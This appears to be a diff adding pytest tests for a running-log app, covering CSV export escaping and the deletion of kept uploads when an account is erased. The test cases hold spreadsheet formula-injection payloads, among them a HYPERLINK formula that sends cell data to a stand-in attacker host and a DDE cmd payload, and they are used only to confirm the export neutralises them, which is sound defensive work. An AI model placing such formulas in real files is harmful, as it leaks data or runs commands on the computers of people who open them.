@@ -165,7 +165,24 @@ class TestExportAsOwner:
 
         assert data["runs"] == [] and data["checkins"] == [] and data["shoes"] == []
         archive = zipfile.ZipFile(io.BytesIO(runner.get(f"{EXPORT}?format=csv").get_data()))
-        assert archive.read("runs.csv") == b""
+        header = archive.read("runs.csv").decode("utf-8-sig")  # a header even with no rows
+        assert header.splitlines()[0].split(",")[:3] == ["id", "uuid", "date"]
+
+    @pytest.mark.parametrize("note", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2",
+                                      "-3+cmd|' /C calc'!A0", "@SUM(1,1)", "\tTab", "Plain, with a comma"])
+    def test_csv_cells_never_run_as_formulas(self, runner: Runner, note: str) -> None:
+        """Found trying it: notes went out exactly as typed, so "=HYPERLINK(...)" in a note ran
+        as a formula in the spreadsheet that opened the export."""
+        assert runner.put("/api/v1/runs/7d4c2b1a-0e9f-4a8b-9c7d-6e5f4a3b2c1d", json={
+            "date": "2025-03-01", "distance_m": 5000, "duration_s": 1800, "note": note}).status_code == 201
+        raw = zipfile.ZipFile(io.BytesIO(runner.get(f"{EXPORT}?format=csv").get_data())).read("runs.csv")
+        assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark: accents read right
+        [row] = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
+        if note[0] in "=+-@\t":
+            assert row["note"] == "'" + note
+        else:
+            assert row["note"] == note
+        assert row["source"] == "manual" and row["pain_during"] == ""
 
     @pytest.mark.parametrize("fmt", ["xml", "CSV", "", "pdf"])
     def test_an_unknown_format_is_422(self, runner: Runner, fmt: str) -> None:
@@ -216,6 +233,22 @@ class TestEraseAccountAsOwner:
         assert_error(runner.get(ME), 401, "not_signed_in")
         assert other.get(f"/api/v1/runs/{THEIR_RUN}").status_code == 200
         assert len(other.get(EXPORT).get_json()["checkins"]) == 2
+
+    def test_erasure_deletes_the_uploads_kept_on_disk(self, app, runner: Runner) -> None:
+        """Found trying it: a GPX upload kept with keep_file stayed on disk after the account
+        was erased (until an orphan sweep an hour later, if a worker ran)."""
+        from pathlib import Path
+
+        from tests.imports.support import gpx_run, upload, wait_done
+
+        gpx = gpx_run(datetime(2025, 3, 1, 8, 0), 5000, 1800)
+        body = upload(runner, "run.gpx", gpx, keep=True).get_json()
+        assert wait_done(runner, body["import"]["id"])["status"] == "done"
+        folder = Path(app.config["INSTANCE_PATH"]) / "imports"
+        kept = {p.name for p in folder.glob("*.upload")}
+        assert kept, "the upload was kept"
+        assert runner.delete(ME, json={"password": runner.password}).status_code == 204
+        assert kept.isdisjoint(p.name for p in folder.glob("*.upload"))
 
     def test_every_session_of_the_runner_ends_and_the_email_is_free_again(self, app, runner: Runner) -> None:
         fill(runner, "mine", MY_RUN)
